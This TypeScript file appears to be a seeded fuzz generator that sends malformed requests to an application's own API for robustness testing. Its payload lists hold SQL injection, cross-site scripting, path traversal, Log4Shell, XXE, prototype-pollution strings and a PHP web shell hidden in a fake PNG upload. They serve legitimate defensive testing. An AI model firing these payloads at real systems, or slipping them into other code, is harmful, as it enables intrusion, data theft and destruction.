import type { FieldKind, Target } from './calls';
import { rng as seeded } from '../../server/db/seed/random';

/**
 * Malformed requests, made from a seeded generator so that a failure names the seed and the request number
 * that reproduce it (FUZZ_SEED=<seed>). What a careless or hostile client sends (OWASP API4/API8/API10): wrong
 * types, 1 MB strings, SQL / HTML / path / format-string injections, `__proto__` and `constructor` keys,
 * broken multipart, wrong content types, bad JSON, huge page sizes, numbers beyond the columns, control
 * characters.
 */

/** The demo seed's mulberry32 (the same sequence on every machine), with an index draw and a coin. */
export function rng(seed: number) {
  const { next, pick } = seeded(seed);
  const int = (n: number) => Math.floor(next() * n);
  return { next, int, pick, chance: (p: number) => next() < p };
}
export type Rng = ReturnType<typeof rng>;

export const MEGA = 'A'.repeat(1 << 20);

const INJECTIONS = [
  "' OR '1'='1", "1' OR 1=1--", "1; DROP TABLE users;--", "1' UNION SELECT password_hash, email FROM users--", '") OR 1=1 --',
  "1) AND (SELECT 1 FROM pg_sleep(0))--", "$1", "?", "'; COPY users TO '/tmp/x';--", "\\'; SELECT version();--", "%' AND '%'='",
  '<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', "javascript:alert(document.cookie)", '<svg/onload=alert(1)>', '{{constructor.constructor("return process")()}}',
  '../../../../etc/passwd', '..%2f..%2f..%2f..%2fetc%2fpasswd', '/uploads/../../pg/PG_VERSION', '....//....//etc/passwd', 'C:\\Windows\\win.ini', '/proc/self/environ', 'file:///etc/passwd',
  '%s%s%s%s%s%n', '%x%x%x%x', '%d %p %c', '{0}{1}{2}', '${7*7}', '{{7*7}}', '#{7*7}', '${jndi:ldap://x/a}', '%{x}', '{field}', '{{field}}',
];
const NUMBERS = ['2147483648', '-2147483649', '1e20', '1e308', '1e309', '-1e309', 'NaN', 'Infinity', '-Infinity', '3.5', '-0', '0', '-1', '0x1F', '1_000', '٣', '1e-7',
  '21474836.48', '99999999999999999999', '00000000001', '1,2', ' 7 ', '+5', '9007199254740993'];
const STRANGE = ['', ' ', 'abc', 'a\u0000b', '\u0007x', '\u001b[31mred', '\ud800', '\udfff\ud800', '\u202eevil', '\ufeffbom', '😀'.repeat(200), 'a'.repeat(300),
  'ä'.repeat(5000), 'null', 'undefined', 'true', '[]', '{}', '[object Object]', '\r\n\r\nX-Injected: 1', 'a\nb', '🀄︀'];
const STRINGS = [...INJECTIONS, ...NUMBERS, ...STRANGE];
const JSON_VALUES: unknown[] = [null, true, false, 0, -1, 1.5, 1e308, -1e308, 2147483648, 9007199254740993, [], [1, 'two', null], {}, { a: 1 }, { id: { $gt: 0 } },
  [[[[[['deep']]]]]], { toString: 'x', valueOf: 1 }, { __proto__: { admin: true } }, [{ title: 'a\u0000b', price: 'x' }], { nested: 'a\u0000b' }];
const PAGE_FIELDS = ['page', 'pagesize', 'limit', 'per_page', 'offset', 'size', 'count', 'num', 'quantity', 'days', 'month'];
const PAGE_VALUES = ['1000000000', '2147483647', '2147483648', '99999999999999999999', '-5', '0', '1e9', '100000', '1000000', '1e400', 'NaN', '-2147483648', '1.0000001'];
/** Field names every call is also sent when it declares none (and a few it never declares). */
const COMMON = ['id', 'ids', 'sn', 'goods_id', 'order_id', 'address_id', 'page', 'pagesize', 'type', 'status', 'keyword', 'content', 'amount', 'email', 'url', 'lang', 'token'];

export type Auth = 'visitor' | 'token' | 'bogus-token' | 'ops' | 'bearer' | 'bogus-bearer' | 'query-token';
export type Malformed = {
  n: number; kind: string; method: 'GET' | 'POST'; path: string; auth: Auth;
  headers: Record<string, string>; query: string; body?: string;
};

const field = (r: Rng, kind: FieldKind, realIds: number[]): string => {
  if (kind === 'number' && realIds.length && r.chance(0.15)) return String(r.pick(realIds));
  if (kind === 'number' && r.chance(0.5)) return r.pick(NUMBERS);
  return r.pick(STRINGS);
};
const jsonField = (r: Rng, kind: FieldKind, realIds: number[]): unknown => (r.chance(0.5) ? r.pick(JSON_VALUES) : field(r, kind, realIds));

/** Form encoding (a lone surrogate cannot be percent-encoded: it goes as U+FFFD here, and raw in JSON bodies). */
const wellFormed = (v: string): string => (v as string & { toWellFormed(): string }).toWellFormed();
function form(entries: [string, string][]): string {
  return entries.map(([k, v]) => `${encodeURIComponent(wellFormed(k))}=${encodeURIComponent(wellFormed(v))}`).join('&');
}

function brokenMultipart(r: Rng, names: string[]): { type: string; body: string } {
  const name = r.pick(names.length ? names : COMMON);
  return r.pick([
    { type: 'multipart/form-data', body: `--X\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n1\r\n--X--\r\n` },
    { type: 'multipart/form-data; boundary=XYZ', body: 'no boundary in here at all' },
    { type: 'multipart/form-data; boundary=XYZ', body: `--XYZ\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n1` },
    { type: 'multipart/form-data; boundary=XYZ', body: `--XYZ\r\n\r\nvalue without headers\r\n--XYZ--\r\n` },
    { type: 'multipart/form-data; boundary=XYZ', body: `--XYZ\r\nContent-Disposition: form-data; name="__proto__"\r\n\r\n{"admin":1}\r\n--XYZ\r\nContent-Disposition: form-data; name="constructor"\r\n\r\nx\r\n--XYZ--\r\n` },
    { type: 'multipart/form-data; boundary=XYZ', body: `--XYZ\r\nContent-Disposition: form-data; name="${name}"; filename="../../../etc/passwd"\r\nContent-Type: image/png\r\n\r\nnot a png at all\r\n--XYZ--\r\n` },
    { type: 'multipart/form-data; boundary=XYZ', body: `--XYZ\r\nContent-Disposition: form-data; name="file"; filename="x.php.png"\r\nContent-Type: image/png\r\n\r\n\u0089PNG\r\n\u001a\n<?php system($_GET[1]); ?>\r\n--XYZ--\r\n` },
    { type: 'multipart/form-data; boundary=' + 'B'.repeat(200), body: '--' + 'B'.repeat(200) + '\r\nContent-Disposition: form-data\r\n\r\n\r\n' },
    { type: 'multipart/mixed; boundary=XYZ', body: `--XYZ\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n1\r\n--XYZ--\r\n` },
  ]);
}

const BAD_JSON = ['{', '{"a":', '[1,2', 'null', '"str"', '123', 'true', '{"a":1}garbage', '\ufeff{"a":1}', '{"id":01}', "{'id':1}", '{"id":NaN}', '{"a":"\\ud800"}',
  '['.repeat(20_000) + ']'.repeat(20_000), '{"a":'.repeat(5000) + '1' + '}'.repeat(5000), '{"id":1,"id":"x","id":{}}', '', '\u0000', '{"__proto__":null}', '[1,2,3]', '{"id":1e400}'];

/** The n-th malformed request for `t` (the generator's state decides everything; responses never do). */
export function malformed(r: Rng, n: number, t: Target, realIds: number[]): Malformed {
  const names = Object.keys(t.fields);
  const kindOfName = (k: string): FieldKind => t.fields[k] ?? 'string';
  const method = r.pick(t.methods);
  const auth: Auth = t.family === 'ops' ? (r.chance(0.85) ? 'ops' : 'visitor')
    : t.family === 'affiliate' ? r.pick(['bearer', 'bearer', 'bogus-bearer', 'token', 'visitor'] as const)
      : r.pick(['token', 'token', 'token', 'visitor', 'bogus-token', 'query-token'] as const);
  const headers: Record<string, string> = { guid: 'fuzz' };
  const queryParts: [string, string][] = [['clienttype', 'h5'], ['lang', r.pick(['en', 'ru', 'zh-cn', 'xx', '../../etc'])]];
  let body: string | undefined;
  // 1 MB strings are few (one in 40): each costs as much as a hundred small requests.
  let kind = r.chance(0.025) ? 'big' : method === 'GET' ? r.pick(['fields', 'fields', 'paging', 'query-junk', 'proto'] as const)
    : r.pick(['fields', 'fields', 'fields', 'json-fields', 'json-fields', 'proto', 'multipart', 'content-type', 'bad-json', 'paging'] as const) as string;
  const chosen = () => {
    const all = names.length ? [...names, ...(r.chance(0.3) ? [r.pick(COMMON)] : [])] : COMMON;
    return all.filter(() => r.chance(0.7));
  };
  const put = (entries: [string, string][]) => {
    if (method === 'GET') queryParts.push(...entries);
    else { headers['content-type'] = 'application/x-www-form-urlencoded'; body = form(entries); }
  };
  switch (kind) {
    case 'fields':
      put(chosen().map((k) => [r.chance(0.1) ? `${k}[]` : k, field(r, kindOfName(k), realIds)]));
      break;
    case 'json-fields':
      headers['content-type'] = r.pick(['application/json', 'application/json; charset=utf-8', 'application/json-patch+json']);
      body = JSON.stringify(Object.fromEntries(chosen().map((k) => [k, jsonField(r, kindOfName(k), realIds)])));
      break;
    case 'proto':
      if (method === 'GET') queryParts.push(['__proto__[admin]', '1'], ['constructor[prototype][polluted]', '1'], ['__proto__', 'x'], ...chosen().map((k): [string, string] => [k, field(r, kindOfName(k), realIds)]));
      else if (r.chance(0.5)) {
        headers['content-type'] = 'application/json';
        const own = Object.fromEntries(chosen().map((k) => [k, jsonField(r, kindOfName(k), realIds)]));
        const evil = r.pick([
          '{"__proto__":{"polluted":1,"admin":true,"user_id":1}}', '{"constructor":{"prototype":{"polluted":1}}}', '{"__proto__":{"__proto__":{"polluted":1}}}',
          `{"__proto__":${JSON.stringify(own)}}`, '{"prototype":{"polluted":1},"hasOwnProperty":"x","toString":"y","valueOf":1}',
        ]);
        body = evil.slice(0, -1) + (Object.keys(own).length ? ',' + JSON.stringify(own).slice(1) : '}');
      } else {
        headers['content-type'] = 'application/x-www-form-urlencoded';
        body = form([['__proto__[polluted]', '1'], ['constructor[prototype][polluted]', '1'], ['__proto__', '{"admin":true}'], ['hasOwnProperty', 'x'], ['toString', 'y'],
          ...chosen().map((k): [string, string] => [k, field(r, kindOfName(k), realIds)])]);
      }
      break;
    case 'multipart': {
      const m = brokenMultipart(r, names);
      headers['content-type'] = m.type;
      body = m.body;
      break;
    }
    case 'content-type': {
      const payload = JSON.stringify(Object.fromEntries(chosen().map((k) => [k, jsonField(r, kindOfName(k), realIds)])));
      const c = r.pick([
        ['text/plain', payload], ['application/xml', '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'], ['application/json', 'id=1&page=2'],
        ['application/x-www-form-urlencoded', payload], ['application/json; charset=utf-16', payload], ['application/octet-stream', '\u0000\u0001\u00ff'],
        ['form', 'id=1'], ['', payload], ['image/png', '\u0089PNG'], ['application/x-www-form-urlencoded', '%zz%%=&&==&a=%E0%A4%A'], ['text/html', '<html>'],
      ] as const);
      if (c[0]) headers['content-type'] = c[0];
      body = c[1];
      break;
    }
    case 'bad-json':
      headers['content-type'] = 'application/json';
      body = r.pick(BAD_JSON);
      break;
    case 'paging':
      put([...PAGE_FIELDS.filter(() => r.chance(0.5)).map((k): [string, string] => [k, r.pick(PAGE_VALUES)]), ...chosen().map((k): [string, string] => [k, field(r, kindOfName(k), realIds)])]);
      break;
    case 'query-junk':
      queryParts.push(...chosen().map((k): [string, string] => [k, field(r, kindOfName(k), realIds)]), ...chosen().map((k): [string, string] => [`${k}[]`, r.pick(STRINGS)]));
      break;
    case 'big': {
      const k = r.pick(names.length ? names : COMMON);
      // A 100 KB query string (a URL no proxy passes on), 1 MB in bodies.
      if (method === 'GET') queryParts.push([k, MEGA.slice(0, 100 * 1024)]);
      else if (r.chance(0.5)) { headers['content-type'] = 'application/x-www-form-urlencoded'; body = `${k}=${MEGA}`; }
      else { headers['content-type'] = 'application/json'; body = `{"${k}":"${MEGA}"}`; }
      kind = method === 'GET' ? 'big (100 KB query)' : 'big (1 MB body)';
      break;
    }
  }
  let query = form(queryParts);
  if (kind === 'query-junk') query += r.pick(['&%zz=1', '&a=%E0%A4%A', '&&&==', '&id=1&id=2&id=3', '&' + encodeURIComponent('ids[]') + '=1&ids=2']);
  return { n, kind, method, path: t.path, auth, headers, query, body };
}

/** One line that says what was sent, for a failure message (bodies cut to 300 characters). */
export function describeRequest(m: Malformed, seed: number): string {
  const body = m.body ?? '';
  const cut = (s: string) => (s.length > 300 ? `${s.slice(0, 300)}… (${s.length} chars)` : s);
  return `FUZZ_SEED=${seed} #${m.n} ${m.kind}: ${m.method} ${m.path}?${cut(m.query)} auth=${m.auth} content-type=${m.headers['content-type'] ?? '-'} body=${JSON.stringify(cut(body))}`;
}
